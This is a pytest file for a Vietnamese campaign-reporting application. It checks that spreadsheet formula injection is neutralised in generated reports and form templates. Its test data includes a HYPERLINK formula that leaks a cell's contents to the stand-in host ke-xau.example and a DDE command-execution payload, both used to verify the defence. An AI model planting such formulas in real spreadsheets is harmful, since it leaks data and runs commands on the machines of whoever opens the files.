"""Text a unit types is never a live formula in the office's spreadsheets (OWASP formula injection)."""

from __future__ import annotations

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from tests.submissions.conftest import CODE, vn
from thidua.db import session_scope
from thidua.models.tables import Unit
from thidua.services.reports import build_round_report
from thidua.services.submissions import review_report, submit_report, write_form_template
from thidua.xlsx_safety import FORMULA_TRIGGERS, put_cell, put_row

HOSTILE = '=HYPERLINK("http://ke-xau.example/?d="&B7,"Bấm vào đây")'


def text_cells(path) -> dict[str, tuple[str, bool]]:  # noqa: ANN001
    """Every text cell of every sheet: value -> (data type, quote prefix)."""
    out = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    out[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    return out


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_formula_trigger_is_stored_as_text_exactly_as_typed(tmp_path, trigger: str) -> None:
    typed = f"{trigger}1+2"
    workbook = Workbook()
    sheet = workbook.active
    put_cell(sheet, 1, 1, typed)
    put_row(sheet, [1, typed, 2.5, None, "Bình thường"])
    workbook.save(tmp_path / "x.xlsx")
    again = load_workbook(tmp_path / "x.xlsx").active
    for cell in (again["A1"], again["B2"]):
        assert cell.value == typed and cell.data_type == "s" and cell.quotePrefix
    assert again["A2"].value == 1 and again["C2"].value == 2.5 and not again["E2"].quotePrefix


def test_round_report_keeps_a_units_formula_as_text(loaded, tmp_path) -> None:
    with session_scope(loaded.engine) as session:
        submit_report(
            session,
            campaign_code=CODE,
            obligation_code="so-ket-dot-1",
            unit_code="BDH.D1.1",
            raw={"so_sang_kien": 3, "so_doan_vien_moi": 1, "guong_dien_hinh": HOSTILE},
            actor="BDH.D1.1",
            now=vn(5, 6),
        )
        review_report(
            session,
            campaign_code=CODE,
            obligation_code="so-ket-dot-1",
            unit_code="BDH.D1.1",
            reviewer_code="BDH.D1",
            accept=True,
            actor="BDH.D1",
            now=vn(6, 6),
        )
    with session_scope(loaded.engine) as session:
        files = build_round_report(session, campaign_code=CODE, round_number=1, out_dir=tmp_path, now=vn(20, 6))
    cells = text_cells(files.xlsx)
    assert cells[HOSTILE] == ("s", True)
    assert not any(kind == "f" for kind, _ in cells.values())


def test_form_template_keeps_a_formula_like_unit_name_as_text(loaded, tmp_path) -> None:
    with session_scope(loaded.engine) as session:
        session.execute(update(Unit).where(Unit.code == "BDH.D1.1").values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
    with session_scope(loaded.engine) as session:
        write_form_template(
            session,
            campaign_code=CODE,
            obligation_code="so-ket-dot-1",
            superior_code="BDH.D1",
            out=tmp_path / "mau.xlsx",
        )
    assert text_cells(tmp_path / "mau.xlsx")["@SUM(1+1)*cmd|' /C calc'!A0"] == ("s", True)
